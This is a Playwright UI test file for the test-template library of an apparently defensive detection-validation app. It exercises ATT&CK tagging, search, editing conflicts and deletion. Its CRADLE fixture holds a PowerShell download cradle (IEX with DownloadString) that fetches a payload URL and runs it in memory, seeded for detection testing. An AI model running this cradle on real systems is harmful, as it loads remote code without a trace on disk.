import { readFile } from 'node:fs/promises';
import path from 'node:path';
import type { APIRequestContext, Page } from '@playwright/test';
import { expectAccessible } from '../a11y.js';
import { API_HEADERS, apiSignIn, prepareAdmin, type Credentials } from '../auth-helpers.js';
import { expect, test } from '../fixtures.js';
import { REPO_ROOT } from '../paths.js';

const FIXTURE = path.join(REPO_ROOT, 'apps/server/test/fixtures/attack/mini-enterprise.json');

interface Template {
  id: string;
  name: string;
  version: number;
  [key: string]: unknown;
}

/** A PowerShell test tagged with a sub-technique: found by a T1059 search. */
const CRADLE = {
  name: 'PowerShell download cradle',
  description: 'Downloads and runs a script **in memory**, like most commodity loaders.',
  objective: 'Check that script block logging catches in-memory execution.',
  procedure_md: '1. Start a PowerShell session\n2. Run the command\n3. Note the time',
  attack_ids: ['T1059.001'],
  platforms: ['Windows'],
  tags: ['loader'],
  executor: {
    name: 'powershell',
    command: 'IEX (New-Object Net.WebClient).DownloadString("#{script_url}")',
    cleanup_command: 'Remove-Item #{temp_file} -ErrorAction Ignore',
    elevation_required: false,
  },
  input_arguments: [
    {
      name: 'script_url',
      description: 'Script to fetch',
      type: 'url',
      default: 'https://example.org/payload.ps1',
    },
  ],
  detection_refs: [
    {
      kind: 'sigma',
      ref_id: '3b6ab547-8ec2-4991-b9d2-2b06702a48d7',
      title: 'PowerShell Download Cradle',
      url: 'https://github.com/SigmaHQ/sigma',
    },
  ],
  expected_outcomes: [
    { layer: 'edr', expectation: 'alert' },
    { layer: 'siem', expectation: 'log' },
  ],
};

/** Tagged with a revoked technique: flagged for review. */
const COMPILE = {
  name: 'Compile a payload on the host',
  attack_ids: ['T1500'],
  platforms: ['Linux', 'macOS'],
  tags: ['payload'],
  executor: { name: 'bash', command: 'gcc -o /tmp/a /tmp/a.c' },
};

let admin: Credentials;
let cradle: Template;
let compile: Template;

test.describe.configure({ mode: 'serial' });

async function importAttack(api: APIRequestContext): Promise<void> {
  const res = await api.post('/api/attack/sync', {
    headers: API_HEADERS,
    multipart: {
      file: {
        name: 'mini-enterprise.json',
        mimeType: 'application/json',
        buffer: await readFile(FIXTURE),
      },
    },
  });
  expect(res.status(), await res.text()).toBe(202);
  const { job } = (await res.json()) as { job: { id: string } };
  await expect
    .poll(
      async () => {
        const poll = await api.get(`/api/jobs/${job.id}`, { headers: API_HEADERS });
        return ((await poll.json()) as { status: string }).status;
      },
      { timeout: 60_000 },
    )
    .toBe('succeeded');
}

async function createTemplate(api: APIRequestContext, body: object): Promise<Template> {
  const res = await api.post('/api/library/tests', { headers: API_HEADERS, data: body });
  expect(res.status(), await res.text()).toBe(201);
  return (await res.json()) as Template;
}

async function getTemplate(api: APIRequestContext, id: string): Promise<Template> {
  const res = await api.get(`/api/library/tests/${id}`, { headers: API_HEADERS });
  expect(res.status(), await res.text()).toBe(200);
  return (await res.json()) as Template;
}

const rows = (page: Page) => page.getByTestId('library-row');

test.beforeAll(async ({ resetServer, browser }) => {
  await resetServer();
  admin = await prepareAdmin();
  const page = await browser.newPage();
  await apiSignIn(page, admin);
  await importAttack(page.request);
  cradle = await createTemplate(page.request, CRADLE);
  compile = await createTemplate(page.request, COMPILE);
  await page.close();
});

test.beforeEach(async ({ page }) => {
  await apiSignIn(page, admin);
});

test('create a template in the editor with the ATT&CK picker', async ({ page, pageErrors }) => {
  await page.goto('/');
  await page.getByTestId('nav').getByRole('link', { name: 'Library' }).click();
  await expect(page.getByTestId('library-page')).toBeVisible();
  await expect(rows(page)).toHaveCount(2);
  await page.getByTestId('library-new').click();

  const editor = page.getByTestId('template-editor');
  await expect(editor).toBeVisible();
  await page.getByTestId('editor-name').fill('Unix shell discovery');
  await page.getByTestId('attack-picker-input').fill('T1059');
  await page.locator('[data-testid="attack-picker-option"][data-tag="T1059"]').click();
  await expect(page.locator('[data-testid="picker-tag"][data-tag="T1059"]')).toContainText(
    'Command and Scripting Interpreter',
  );
  // An id the catalog does not know is kept when typed exactly, with a warning.
  await page.getByTestId('attack-picker-input').fill('T1999');
  await page.locator('[data-testid="attack-picker-option"][data-tag="T1999"]').click();
  await expect(page.locator('[data-testid="picker-tag"][data-tag="T1999"]')).toHaveAttribute(
    'data-status',
    'unknown',
  );
  await expect(page.getByTestId('picker-warning')).toContainText('T1999');
  // The pill's remove button (Backspace in the empty input removes the last pill too).
  await page.getByTestId('attack-picker-input').press('Backspace');
  await expect(page.getByTestId('picker-warning')).toHaveCount(0);

  await page.getByTestId('editor-platforms').fill('Linux');
  await page.getByTestId('editor-platforms').press('Enter');
  await page.getByTestId('editor-procedure').fill('Run it in a **login shell**.');
  await page.getByTestId('editor-procedure-mode').getByText('Preview').click();
  await expect(page.getByTestId('editor-procedure-preview').locator('strong')).toHaveText(
    'login shell',
  );
  await page.getByTestId('editor-executor-name').click();
  await page.getByRole('option', { name: 'bash', exact: true }).click();
  await page.getByTestId('editor-command').fill('uname -a > #{output_file}');
  // The placeholder has no argument yet: define it from the hint.
  await page.getByTestId('editor-placeholders').getByRole('button', { name: 'define' }).click();
  await expect(page.getByTestId('editor-argument')).toHaveCount(1);
  await page.getByTestId('editor-save').click();

  const view = page.getByTestId('template-page');
  await expect(view).toHaveAttribute('data-version', '1');
  await expect(page.getByRole('heading', { name: 'Unix shell discovery' })).toBeVisible();
  await expect(page.getByTestId('template-procedure').locator('strong')).toHaveText('login shell');
  await expect(page.getByTestId('command-placeholder')).toHaveText('#{output_file}');
  expect(pageErrors).toEqual([]);
});

test('search by technique and filter by a facet; URL keeps the filters', async ({
  page,
  pageErrors,
  shot,
}) => {
  await page.goto('/library');
  await expect(rows(page)).toHaveCount(3);
  // The revoked tag is flagged, with its replacement in the tooltip data.
  const compileRow = page.locator(`[data-testid="library-row"][data-name="${COMPILE.name}"]`);
  await expect(compileRow.getByTestId('flagged-badge')).toBeVisible();
  await expect(compileRow.locator('[data-testid="attack-tag"][data-tag="T1500"]')).toHaveAttribute(
    'data-status',
    'revoked',
  );
  await expect(page.getByTestId('facet-flagged-count')).toHaveText('1');
  await page.waitForLoadState('networkidle');
  await shot(page, 'library-list');
  await expectAccessible(page, 'the library list');

  // A parent technique finds its sub-techniques' templates too.
  await page.getByTestId('library-technique').fill('T1059');
  await expect(rows(page)).toHaveCount(2);
  await expect(page.getByTestId('library-table')).toContainText(CRADLE.name);
  await expect(page.getByTestId('library-table')).toContainText('Unix shell discovery');
  await expect(page).toHaveURL(/technique=T1059/);
  await page.getByTestId('library-clear').click();
  await expect(rows(page)).toHaveCount(3);

  await page.getByTestId('facet-platform').locator('[data-value="Linux"]').click();
  await expect(rows(page)).toHaveCount(2);
  await expect(page).toHaveURL(/platform=Linux/);
  await expect(page.getByTestId('library-table')).not.toContainText(CRADLE.name);
  // The link is shareable: a reload keeps the filter.
  await page.reload();
  await expect(rows(page)).toHaveCount(2);
  await expect(page.getByTestId('facet-platform').locator('[data-active]')).toHaveAttribute(
    'data-value',
    'Linux',
  );

  await page.getByTestId('facet-platform').locator('[data-value="Linux"]').click();
  await page.getByTestId('library-search').fill('cradle');
  await expect(rows(page)).toHaveCount(1);
  await page.getByTestId('library-row-link').click();
  const view = page.getByTestId('template-page');
  await expect(view).toHaveAttribute('data-version', '1');
  await expect(page.getByTestId('executor-command')).toContainText('DownloadString');
  await expect(page.getByTestId('command-placeholder').first()).toHaveText('#{script_url}');
  await expect(page.getByTestId('argument-row')).toHaveCount(1);
  await expect(page.getByTestId('detection-ref').getByRole('link')).toHaveAttribute(
    'href',
    'https://github.com/SigmaHQ/sigma',
  );
  await expect(page.getByTestId('outcome-row')).toHaveCount(2);
  await page.waitForLoadState('networkidle');
  await shot(page, 'library-template');
  await expectAccessible(page, 'a test template');

  await page.getByTestId('template-attack').getByRole('link', { name: 'T1059.001' }).click();
  await expect(page.getByTestId('technique-page')).toHaveAttribute('data-technique', 'T1059.001');
  expect(pageErrors).toEqual([]);
});

test('edit a template, then hit a stale version and reload', async ({ page, pageErrors, shot }) => {
  await page.goto(`/library/tests/${cradle.id}`);
  await page.getByTestId('template-edit').click();
  await expect(page.getByTestId('template-editor')).toHaveAttribute('data-version', '1');
  await page.getByTestId('editor-name').fill('PowerShell download cradle (IEX)');
  await page.getByTestId('attack-picker-input').fill('phish');
  await page.locator('[data-testid="attack-picker-option"][data-tag="T1566"]').click();
  await expect(page.locator('[data-testid="picker-tag"][data-tag="T1566"]')).toBeVisible();
  await page.getByTestId('attack-picker-input').blur();
  await shot(page, 'library-editor');
  await expectAccessible(page, 'the test template editor');
  await page.getByTestId('editor-save').click();

  await expect(page.getByTestId('template-page')).toHaveAttribute('data-version', '2');
  await expect(page.getByTestId('template-version')).toHaveText('v2');
  await expect(
    page.getByRole('heading', { name: 'PowerShell download cradle (IEX)' }),
  ).toBeVisible();
  await expect(page.getByTestId('template-attack')).toContainText('Phishing');

  // Someone else saves while this editor is open.
  await page.getByTestId('template-edit').click();
  await expect(page.getByTestId('template-editor')).toHaveAttribute('data-version', '2');
  const current = await getTemplate(page.request, cradle.id);
  // PUT takes the editable fields and the version read.
  const {
    id: _id,
    key: _key,
    attack_tags: _tags,
    flagged: _flagged,
    source: _source,
    source_ref: _ref,
    created_at: _created,
    updated_at: _updated,
    ...fields
  } = current;
  const put = await page.request.put(`/api/library/tests/${cradle.id}`, {
    headers: API_HEADERS,
    data: { ...fields, name: 'Renamed by a colleague', version: 2 },
  });
  expect(put.status(), await put.text()).toBe(200);

  await page.getByTestId('editor-name').fill('My stale edit');
  await page.getByTestId('editor-save').click();
  const conflict = page.getByTestId('editor-conflict');
  await expect(conflict).toContainText('Changed by someone else');
  await expect(conflict).toContainText('version 3');
  await page.getByTestId('editor-reload').click();
  await expect(page.getByTestId('template-editor')).toHaveAttribute('data-version', '3');
  await expect(page.getByTestId('editor-name')).toHaveValue('Renamed by a colleague');
  await expect(conflict).toHaveCount(0);
  await page.getByTestId('editor-name').fill('PowerShell download cradle');
  await page.getByTestId('editor-save').click();
  await expect(page.getByTestId('template-page')).toHaveAttribute('data-version', '4');
  // The 409 is logged by the browser as a failed resource load; nothing else may be.
  expect(pageErrors.filter((e) => !/status of 409/.test(e))).toEqual([]);
});

test('delete a template after confirming', async ({ page, pageErrors }) => {
  await page.goto(`/library/tests/${compile.id}`);
  await expect(page.getByTestId('template-attack')).toContainText('revoked → T1027.004');
  await page.getByTestId('template-delete').click();
  await expect(page.getByTestId('confirm-dialog')).toContainText(COMPILE.name);
  await page.getByTestId('confirm-button').click();
  await expect(page.getByTestId('library-page')).toBeVisible();
  await expect(rows(page)).toHaveCount(2);
  await expect(page.getByTestId('library-table')).not.toContainText(COMPILE.name);
  const gone = await page.request.get(`/api/library/tests/${compile.id}`, {
    headers: API_HEADERS,
  });
  expect(gone.status()).toBe(404);
  expect(pageErrors).toEqual([]);
});
